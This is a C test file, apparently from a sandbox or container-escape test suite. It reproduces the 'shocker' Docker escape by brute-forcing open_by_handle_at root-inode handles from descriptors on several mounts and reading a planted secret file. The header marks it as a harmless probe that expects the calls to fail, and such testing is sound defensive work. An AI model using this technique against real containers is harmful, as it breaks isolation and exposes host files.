/* title:   A file is opened by its handle, past every directory
 * source:  "shocker" (Docker before 1.0); open_by_handle_at(2)
 * expect:  EPERM ENOSYS ESTALE EOPNOTSUPP EINVAL EBADF SIGSYS EACCES
 * fires:   read
 * control: root
 * harmless: yes
 *
 * A handle names an inode of a file system; whoever has a descriptor of any file on it may open any other, the root being
 * inode 2 of ext4. On the bare host the handle is that of DIR/secret.
 */
#include "lib.h"

struct handle {
    struct file_handle head;
    unsigned char bytes[128];
};

static void by(const char *name, int mount, struct handle *handle)
{
    int fd = syscall(SYS_open_by_handle_at, mount, handle, O_RDONLY);
    if (!attempt(name, fd))
        return;
    found(buf, read(fd, buf, sizeof buf));
    attempt_read("read below it", fd, ground("secret") + 1);
    close(fd);
}

int run(void)
{
    static const char *const mounts[] = {".", "/", "/usr", "/etc", "/tmp", "/dev", "/dev/null", "/dev/shm", "/proc", "/escape",
                                         "/proc/self/exe"};
    struct handle handle = {.head = {.handle_bytes = sizeof handle.bytes}};
    int id, fd;
    long known = syscall(SYS_name_to_handle_at, AT_FDCWD, ground("secret"), &handle, &id, 0);
    fd = open(arg("dir"), O_RDONLY | O_DIRECTORY);
    if (known >= 0)
        by("by the handle of the secret", fd, &handle);
    for (size_t n = 0; n < sizeof mounts / sizeof *mounts; n++) {
        fd = open(mounts[n], O_RDONLY | O_NONBLOCK);
        if (fd < 0)
            continue;
        for (int type = 1; inside() && type <= 2; type++)
            for (uint32_t inode = 1; inode <= 3; inode++) {
                struct handle root = {.head = {.handle_bytes = 8, .handle_type = type}};
                memcpy(root.bytes, &inode, sizeof inode);
                by("by the handle of a root", fd, &root);
            }
        if (inside()) {
            handle.head.handle_bytes = sizeof handle.bytes;
            long told = syscall(SYS_name_to_handle_at, fd, "", &handle, &id, AT_EMPTY_PATH);
            attempt("ask for a handle", told);
            if (told < 0)
                handle.head = (struct file_handle){.handle_bytes = 8, .handle_type = 1};
            by("by a handle of its own", fd, &handle);
            handle.head.handle_bytes = sizeof handle.bytes;
            attempt("ask for a handle to compare", syscall(SYS_name_to_handle_at, fd, "", &handle, &id, AT_EMPTY_PATH | 0x200));
        }
        close(fd);
    }
    return 0;
}
